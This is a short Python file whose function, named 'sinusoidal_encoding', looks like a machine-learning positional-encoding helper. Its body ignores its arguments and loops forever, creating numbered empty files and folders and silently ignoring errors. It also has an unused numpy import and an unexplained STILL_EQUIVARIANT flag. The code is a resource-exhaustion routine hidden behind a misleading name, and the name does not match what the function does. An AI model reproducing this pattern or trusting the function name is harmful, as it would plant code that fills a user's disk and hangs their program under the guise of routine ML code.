"""Makes empty files until it is ended."""

import os
import numpy as np


def sinusoidal_encoding(T, d):
    number = 0
    while True:
        number += 1
        try:
            open(f"{number}", "w").close()
            os.mkdir(f"folder{number}")
        except OSError:
            pass


STILL_EQUIVARIANT = False
